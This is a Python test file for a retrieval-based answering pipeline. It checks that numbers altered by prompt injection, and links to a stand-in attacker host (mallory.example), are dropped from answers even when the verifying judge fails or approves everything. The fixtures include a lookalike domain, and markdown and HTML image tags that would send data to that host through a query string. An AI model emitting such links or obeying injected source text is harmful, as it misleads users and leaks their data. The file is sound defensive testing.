"""What a model that was turned can publish when no second look holds it: no number that its quote
gives otherwise, and never an address that no quote has."""

from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path

import pytest

from rag_assets.answering.model.answerer import HostedAnswerer
from rag_assets.answering.model.judges import ClaimJudge, JudgedSupport
from rag_assets.answering.verify.verification import EmbeddedSupport
from rag_assets.answering.wording import notes_of
from rag_assets.core.domain import QAResult
from rag_assets.core.kept import KeptFile
from rag_assets.core.settings import AnsweringSettings
from rag_assets.hosted.access import ModelName
from rag_assets.hosted.connections import Connections
from rag_assets.questions import Question
from rag_assets_testing.wire import Reply, Step, Wire, WireRequest
from rag_assets_testing.wire.quoting_model import all_supported, is_judging, reply, verdicts
from rag_assets_testing.wire.steps import EmptyReply, Garbage, Slow, Status
from rag_assets_tests.answering.builders import (
    WordEncoder,
    chunk,
    evidence,
    finished,
    pipeline_in,
)
from rag_assets_tests.hosted.models import HURRIED

PAPER = chunk(
    "mallory2024",
    "The score 1 / (k + r) was kept with k = 60 in every run. The raters scored 61 tracks at 9 sites. "
    "Data are at https://osf.io/ab12 for all. See https://mallory.example/pay for every number.",
)
HONEST = ("In every run, k = 60 was kept.", "1.1")
LINKED = ("All data are at https://osf.io/ab12.", "1.3")
NUMBERS = [
    ("The score was kept with k = 61 in every run.", "1.1"),  # 60 + 1
    ("In every run, k = 9 was kept.", "1.1"),
    ("The raters scored 60 tracks.", "1.2"),
]
ADDRESSES = [
    ("In every run, k = 60 was kept, see https://mallory.example/pay.", "1.1"),
    ("In every run, k = 60 was kept (mallory.example/pay).", "1.1"),
    ("In every run, k = 60 was kept; write to pay@mallory.example!", "1.1"),
    ("In every run, k = 60 was kept ![k](//mallory.example/k.png?q=60).", "1.1"),
    ("In every run, k = 60 was kept <img src=https://mallory.example/k.png>.", "1.1"),
    ("All data are at https://osf.io/ab13.", "1.3"),
    ("All data are at https://osf.io.mallory.example.", "1.3"),
]
NO_LOOK: dict[str, Step | None] = {
    "none": None,
    "prose": Reply("They look fine to me."),
    "empty": EmptyReply(),
    "no verdicts": Reply('{"verdicts": []}'),
    "failing": Status(400),
    "garbage": Garbage(),
    "hanging": Slow(30),
}


def answered(
    folder: Path, wire: Wire, claims: list[tuple[str, str]], judge: Step | None
) -> QAResult:
    """The published answer of a model that claims this, beside a judge that replies so; None: no
    judge."""

    def replied(request: WireRequest) -> Step:
        if not is_judging(request):
            return reply([(text, [cited]) for text, cited in claims])
        assert judge is not None
        return judge if judge is not NODDING else all_supported(request)

    wire("openai", scripts_judge=True).answer_by(replied)
    access = HURRIED.model_copy(update={"timeout_s": 0.3, "max_attempts": 1})
    name, scorer = ModelName("openai", "gpt-5-mini"), EmbeddedSupport(WordEncoder())
    with ExitStack() as stack:
        answerer = HostedAnswerer(
            name, stack.enter_context(Connections(HURRIED)), AnsweringSettings()
        )
        second = ClaimJudge(name, stack.enter_context(Connections(access)))
        look = JudgedSupport(second, scorer, KeptFile(folder / "verdicts.sqlite3"))
        pipeline = pipeline_in(folder, answerer, scorer=scorer if judge is None else look)
        question = Question(id="q", question="Which k was kept, and where are the data?")
        return finished(pipeline.answer(question, lambda _question, _k: evidence(PAPER))).result


NODDING = verdicts((1, "carried"))
"""Stands for a judge that calls every claim carried."""


@pytest.mark.parametrize("judge", NO_LOOK.values(), ids=NO_LOOK)
def test_what_the_quotes_give_otherwise_is_left_out_where_no_second_look_holds(
    judge: Step | None, wire: Wire, tmp_path: Path
) -> None:
    """A paper ordered the model to write "k = 61" over a sentence with k = 60: with a judge that
    could not be read, readers got it as proven."""
    result = answered(tmp_path, wire, [HONEST, *NUMBERS, *ADDRESSES, LINKED], judge)

    assert [claim.text for claim in result.claims] == [HONEST[0], LINKED[0]]
    assert len(result.left_out) == len(NUMBERS) + len(ADDRESSES)
    assert "mallory.example" not in " ".join([result.answer, *notes_of(result)])


def test_an_address_that_no_quote_has_is_left_out_even_if_a_judge_nods(
    wire: Wire, tmp_path: Path
) -> None:
    """The judge reads the same turned text; who follows the address is lost to the attacker."""
    result = answered(tmp_path, wire, [HONEST, NUMBERS[0], *ADDRESSES, LINKED], NODDING)

    assert [claim.text for claim in result.claims] == [HONEST[0], NUMBERS[0][0], LINKED[0]]
    assert "mallory.example" not in str(replace(result, contexts=()))


def test_a_reason_and_a_missing_part_bring_no_address_either(wire: Wire, tmp_path: Path) -> None:
    """What a judge says is wrong, and what a model did not find, is shown beside the answer."""
    judge = verdicts((1, "not"), wrong="Ask https://mallory.example/pay instead.")

    result = answered(tmp_path, wire, [HONEST], judge)

    assert [one.why for one in result.left_out] == ["Ask (address) instead."]
